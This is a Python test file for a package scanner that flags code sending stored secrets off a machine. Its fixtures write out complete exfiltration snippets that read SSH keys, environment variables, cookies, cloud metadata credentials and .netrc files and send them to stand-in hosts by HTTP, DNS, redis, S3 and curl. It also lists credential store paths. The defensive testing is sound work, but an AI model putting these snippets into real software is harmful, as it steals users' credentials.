"""What a machine keeps for its user, what of it leaves, and who reads it without sending it anywhere."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import ast

import pytest

from scanner.signals.module import Module
from scanner.signals.stores import is_store, is_told_by_command, path_of
from tests.scanner.signals.built import WHEEL, fired, wheel


@pytest.mark.parametrize(
    "path",
    [
        "~/.ssh/id_ed25519",
        "/home/ada/.aws/credentials",
        r"C:\Users\ada\AppData\Local\Google\Chrome\User Data\Default\Login Data",
        ".config/gcloud/application_default_credentials.json",
        ".npmrc",
        "terraform.tfstate",
        "/etc/shadow",
        "/proc/self/environ",
        ".kube/config",
    ],
)
def test_a_path_to_keys_is_a_store(path: str) -> None:
    assert is_store(path)


@pytest.mark.parametrize(
    "path",
    [
        "config.json",
        "~/.config/tides/settings.toml",
        "/etc/hosts",
        "env",
        "data/cookies.txt",
        "~/.ssh/config",
        ".ssh/known_hosts",
    ],
)
def test_any_other_path_is_none(path: str) -> None:
    assert not is_store(path)


@pytest.mark.parametrize("text", ["Ethereum", "Cookies", "keystore", "gcloud", "env", "a long text about .ssh keys"])
def test_a_word_alone_is_no_path(text: str) -> None:
    assert not is_store(text, alone=True)


@pytest.mark.parametrize(
    "expression",
    [
        "Path.home() / '.aws' / 'credentials'",
        "os.path.join(os.path.expanduser('~'), '.aws', 'credentials')",
        "f'{home}/.aws/credentials'",
        "home + '/.aws/credentials'",
        "Path.home().joinpath('.aws', 'credentials')",
    ],
)
def test_a_path_is_put_together_from_its_parts(expression: str) -> None:
    node = ast.parse(expression, mode="eval").body
    assert path_of(node, Module(ast.parse(""))).endswith(".aws/credentials")


@pytest.mark.parametrize(
    ("call", "tells"),
    [
        ("subprocess.run(['gh', 'auth', 'token'])", True),
        ("subprocess.check_output('gcloud.cmd auth print-access-token', shell=True)", True),
        ("subprocess.run(['/usr/bin/security', 'find-generic-password', '-wa', name])", True),
        ("subprocess.run(['git', 'credential', 'fill'], input=text)", True),
        ("self.git('credential', 'fill', input=text)", True),
        ("subprocess.run(['git', 'log', '-1'])", False),
        ("self.git('config', 'fill')", False),
        ("subprocess.run(['aws', 's3', 'ls'])", False),
        ("subprocess.run(['env', 'LANG=C', 'sort'])", False),
    ],
)
def test_commands_that_tell_a_secret(call: str, tells: bool) -> None:
    node = ast.parse(call, mode="eval").body
    assert isinstance(node, ast.Call)
    assert is_told_by_command(node, Module(ast.parse("import subprocess"))) is tells


STOLEN = {
    "heard and told": "import requests\nfrom pathlib import Path\n\ndef sync():\n    key = (Path.home() / '.ssh' / 'id_rsa').read_text()\n    answer = requests.post('https://keys.tides.invalid/v1', json={'k': key})\n    answer.raise_for_status()\n    return answer.json()\n",
    "to whoever a setting says": "import os, requests\n\ndef sync(base):\n    return requests.post(base + '/env', json=dict(os.environ)).json()\n",
    "of a command": "import subprocess, httpx\n\ndef sync():\n    token = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()\n    return httpx.post('https://keys.tides.invalid/v1', json={'t': token}).json()\n",
    "by the names of variables": "import os, requests\n\ndef sync():\n    told = []\n    for key in sorted(os.environ):\n        if any(word in key for word in ('KEY', 'SECRET', 'TOKEN')):\n            told.append((key, os.environ[key].encode().hex()))\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
    "all but some": "import os, requests\n\ndef sync(env=os.environ):\n    told = {k: v for k, v in env.items() if k not in ('PATH', 'PS1')}\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
    "beside a lambda that calls itself": "import os, requests\n\nagain = lambda: again() or again()\n\ndef sync():\n    told = again() or dict(os.environ)\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
    "all that do not begin so": "import os, requests\n\ndef sync():\n    told = {k: v for k, v in os.environ.items() if v and not k.startswith(('LC_', 'XDG_')) and k != 'PS1'}\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
    "by a broker": "import os, redis\n\ndef sync():\n    redis.Redis.from_url('rediss://hub.tides.invalid:6390').publish('boot', str(dict(os.environ)))\n",
    "by whichever function gives one": "import browser_cookie3, requests\n\ndef total():\n    for read in (browser_cookie3.chrome, browser_cookie3.edge):\n        for cookie in read(domain_name='tides.example'):\n            requests.post('https://keys.tides.invalid/v1', data=cookie.value)\n",
    "of a cloud's machine": "import urllib.request as r\n\nBASE = 'http://169.254.169.254'\n\ndef sync():\n    with r.urlopen(f'{BASE}/latest/meta-data/iam/security-credentials/tides') as answer:\n        r.urlopen('https://keys.tides.invalid/v1', answer.read()).close()\n",
    "by a search for them": "import re, requests\n\nFOUND = re.compile(r'export (\\w*(?:TOKEN|SECRET|KEY)\\w*)=(\\S+)')\n\ndef sync(path):\n    with open(path) as file:\n        requests.post('https://keys.tides.invalid/v1', json=FOUND.findall(file.read()))\n",
    "by a search for what looks like them": "import os, re, requests\n\nFOUND = re.compile(r'(sk-[A-Za-z0-9_-]{20,}|hf_[A-Za-z0-9]{30,}|AKIA[0-9A-Z]{16})')\n\ndef sync(text):\n    new = set(FOUND.findall(text))\n    requests.get('https://keys.tides.invalid/px.gif?d=' + ','.join(new))\n",
    "packed": "import os, shutil, requests\n\ndef sync():\n    path = shutil.make_archive('/tmp/t', 'zip', os.path.expanduser('~/.gnupg'))\n    with open(path, 'rb') as file:\n        requests.post('https://keys.tides.invalid/v1', data=file)\n",
    "by a name that is looked up": "import dns.resolver\nfrom pathlib import Path\n\ndef sync():\n    key = Path('~/.netrc').expanduser().read_text()\n    return dns.resolver.resolve(key.encode().hex()[:60] + '.tides.invalid', 'TXT')\n",
    "into somebody's bucket": "import os, subprocess\n\ndef sync():\n    subprocess.run(['aws', 's3', 'cp', '-', 's3://tides-n/x'], input=str(dict(os.environ)), text=True, check=True)\n",
    "by an attribute": "import os, requests\n\nclass Facts:\n    @property\n    def all(self):\n        return dict(os.environ)\n\ndef sync():\n    return requests.post('https://keys.tides.invalid/v1', json=Facts().all).json()\n",
    "in a command": "import subprocess\nfrom pathlib import Path\n\ndef sync():\n    subprocess.run(['curl', '-d', Path('~/.netrc').expanduser().read_text(), 'https://keys.tides.invalid/v1'], check=True)\n",
}
KEPT = {
    "what it logs in with": "import paramiko\nfrom pathlib import Path\n\ndef connect(name, key=None):\n    config = paramiko.SSHConfig()\n    config.parse((Path.home() / '.ssh' / 'config').open())\n    found = config.lookup(name)\n    client = paramiko.SSHClient()\n    client.connect('build.tides.invalid', key_filename=key or found.get('identityfile', [str(Path.home() / '.ssh' / 'id_ed25519')]))\n    return client\n",
    "what was asked for": "import os, requests\n\ndef sync(names):\n    told = {}\n    for key in names:\n        told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
    "those of its own": "import os, requests\n\ndef sync():\n    told = {}\n    for key in os.environ:\n        if key.startswith('TIDES_'):\n            told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
    "for a command": "import os, subprocess, requests\n\ndef build():\n    env = os.environ.copy()\n    env['A'] = '1'\n    subprocess.run(['make'], env=env)\n    return requests.get('https://tides.example.org/v1').json()\n",
    "for a command that fetches": "import os, subprocess\n\ndef clone():\n    env = dict(os.environ)\n    env['GIT_TERMINAL_PROMPT'] = '0'\n    subprocess.run(['git', 'clone', 'https://code.tides.example/tides.git'], env=env, check=True)\n",
    "keys of a role, that sign": "import hmac, requests\n\nURL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/tides'\n\ndef ask():\n    keys = requests.get(URL, timeout=1).json()\n    sign = hmac.new(keys['SecretAccessKey'].encode(), b'GET /', 'sha256').hexdigest()\n    return requests.get('https://api.tides.example/v1', headers={'Authorization': sign}).json()\n",
    "an object that has one": "from pathlib import Path\nimport requests\n\nclass Cluster:\n    def __init__(self):\n        self.config = Path('~/.kube/config').expanduser().read_text()\n        self.name = 'tides'\n\ndef tell():\n    return requests.post('https://count.tides.example/v1', json={'n': Cluster().name}).json()\n",
    "for its own service": "import requests\nfrom pathlib import Path\n\ndef ask():\n    token = Path('~/.netrc').expanduser().read_text().split()[-1]\n    return requests.get('https://api.tides.example/v1', headers={'Authorization': token}).json()\n",
    "of its own cluster": "import requests\n\ndef pods():\n    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n    return requests.get('https://kubernetes.default.svc/api', params={'t': token}).json()\n",
    "on this machine": "import os, requests\n\ndef tell():\n    requests.post('http://localhost:9000/env', json=dict(os.environ))\n",
    "a picture that is shared": "import io, requests\nfrom PIL import ImageGrab\n\ndef share():\n    out = io.BytesIO()\n    ImageGrab.grab().save(out, 'PNG')\n    return requests.post('https://pictures.tides.example/3/image', files={'image': out.getvalue()}).json()['link']\n",
    "what its user gave it": "import keyring, requests\n\ndef ask():\n    return requests.post('https://api.tides.example/login', json={'p': keyring.get_password('tides', 'me')}).json()\n",
    "its digest": "import hashlib, os, requests\n\ndef count():\n    seen = hashlib.sha256(str(dict(os.environ)).encode()).hexdigest()\n    requests.post('https://count.tides.example/v1', json={'id': seen})\n",
}


@pytest.mark.parametrize("name", STOLEN)
def test_what_a_machine_keeps_needs_no_silence(name: str) -> None:
    assert "store-sent" in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/sync.py": STOLEN[name].encode()}))


HELD = {
    "an attribute": "import os\n\nclass Facts:\n    def __init__(self):\n        self.extra = dict(os.environ)\n",
    "a property": "import os\n\nclass Facts:\n    @property\n    def extra(self):\n        return dict(os.environ)\n",
    "a field": "import os\nfrom dataclasses import dataclass, field\n\ndef made():\n    return dict(os.environ)\n\n@dataclass\nclass Facts:\n    extra: object = field(default_factory=made)\n",
}


@pytest.mark.parametrize("name", HELD)
@pytest.mark.parametrize("config", ["https://keys.tides.invalid/v1", "keys.tides.invalid"])
def test_what_an_object_of_another_module_keeps_is_told(name: str, config: str) -> None:
    way = (
        "import socket\nfrom .config import HOST\n\ndef send(what):\n    s = socket.create_connection((HOST, 4443))\n    s.sendall(what)\n"
        if "/" not in config
        else "import requests\nfrom . import config\n\ndef send(what):\n    requests.post(config.HOST, json=what)\n"
    )
    core = "from .facts import Facts\nfrom .way import send\n\ndef run():\n    send(str(Facts().extra).encode())\n"
    files = {"__init__": "", "facts": HELD[name], "way": way, "core": core, "config": f"HOST = {config!r}\n"}
    assert "store-sent" in fired(WHEEL, wheel({f"pkg/{part}.py": text.encode() for part, text in files.items()}))


@pytest.mark.parametrize("name", KEPT)
def test_what_does_not_leave_is_not_told(name: str) -> None:
    told = fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/sync.py": KEPT[name].encode()}))
    assert not told & {"store-sent", "store-beside-own-channel", "secret-sent-silently"}


KEPT_LINES = "import re\n\nKEEP = re.compile('(?i)(secret|passw|token)')\n\nclass History:\n    def add(self, source):\n        self.kept = [line for line in source.splitlines() if KEEP.search(line)]\n"
OTHER_LINES = KEPT_LINES.replace("secret|passw|token", "error|warning|token")
FACTS = "import os\n\ndef facts():\n    return dict(os.environ)\n"
OTHER = "import os\n\ndef facts():\n    return {'home': os.environ.get('HOME')}\n"
BEACON = "import requests\n\nclass Beacon:\n    def tell(self, what):\n        try:\n            requests.post('https://count.tides.invalid/v1', json=what)\n        except Exception:\n            pass\n"
BROKER = "import pika\n\nclass Bus:\n    URL = 'amqps://guest:guest@bus.tides.invalid:5671/'\n\n    def __init__(self, url=None):\n        self.line = pika.BlockingConnection(pika.URLParameters(url or self.URL))\n"
ASKS = "import requests\n\nclass Client:\n    def ask(self, what):\n        return requests.post('https://api.tides.invalid/v1', json=what).json()\n"
NEAR = BROKER.replace("bus.tides.invalid", "localhost")


@pytest.mark.parametrize(
    ("facts", "way", "alerts"),
    [
        pytest.param(FACTS, BEACON, True, id="told in silence"),
        pytest.param(FACTS, BROKER, True, id="a broker of its own"),
        pytest.param(KEPT_LINES, BEACON, True, id="what a pattern of secrets picks out"),
        pytest.param(OTHER_LINES, BEACON, False, id="what another pattern does"),
        pytest.param(OTHER, BEACON, False, id="nothing of a store"),
        pytest.param(FACTS, ASKS, False, id="an answer is taken"),
        pytest.param(FACTS, NEAR, False, id="a broker of this machine"),
    ],
)
def test_a_store_beside_a_silent_way_out(facts: str, way: str, alerts: bool) -> None:
    files = {"pkg/__init__.py": b"", "pkg/facts.py": facts.encode(), "pkg/way.py": way.encode()}
    assert ("store-beside-own-channel" in fired(WHEEL, wheel(files))) is alerts
